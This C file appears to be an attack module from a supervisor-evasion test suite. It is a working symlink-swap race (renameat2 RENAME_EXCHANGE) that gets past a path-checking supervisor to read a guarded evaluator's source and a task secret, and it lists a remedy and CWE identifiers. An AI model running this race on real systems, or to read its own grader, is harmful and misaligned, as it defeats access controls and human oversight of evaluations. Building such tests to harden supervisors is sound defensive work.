// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * Goal:  the evaluator's source, past a supervisor that copies the path, resolves it, and opens
 *        what it found.
 * Means: resolving and opening are two looks at the file system. A second thread keeps exchanging
 *        an ordinary file and a symbolic link of the same name: the one is resolved, the other
 *        opened. The path in memory never changes, so emulating the call does not help by itself.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define TRIES   200000
#define SECONDS 1

static char name[OWN_FOLDER + 2], other[OWN_FOLDER + 2];
static atomic_bool over;

static void *flip(void *unused)
{
	while (!over)
		renameat2(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
	return unused;
}

static enum claim run(const struct brief *b)
{
	time_t end = time(NULL) + SECONDS;
	char folder[OWN_FOLDER];
	bool read_it = false;
	pthread_t flipper;

	if (!own_folder(b, folder))
		return failed("mkdir");
	snprintf(name, sizeof(name), "%s/a", folder);
	snprintf(other, sizeof(other), "%s/b", folder);
	close(open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0600)); /* empty: nothing to loot */
	if (symlink(EVALUATOR, other))
		return failed("symlink");
	errno = pthread_create(&flipper, NULL, flip, NULL);
	if (errno)
		return failed("a second thread");
	attempting(b);
	for (int i = 0; !read_it && i < TRIES && time(NULL) <= end; i++)
		read_it = loot_evaluator(open(name, O_RDONLY | O_CLOEXEC));
	over = true;
	pthread_join(flipper, NULL);
	errno = EACCES;
	return read_it ? CLAIM_DONE : denied("every open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "renameat2(RENAME_EXCHANGE) swaps a file and a link between resolving and opening",
	.oracle = "secret:task",
	.attack_id = "T1562.001, CWE-367, CWE-59",
	.remedy = "open first (O_PATH, openat2), then judge what is open; Landlock below",
	.refs = (const char *const[]){ "renameat2(2)", "openat2(2), RESOLVE_NO_SYMLINKS", NULL },
	.run = run,
};
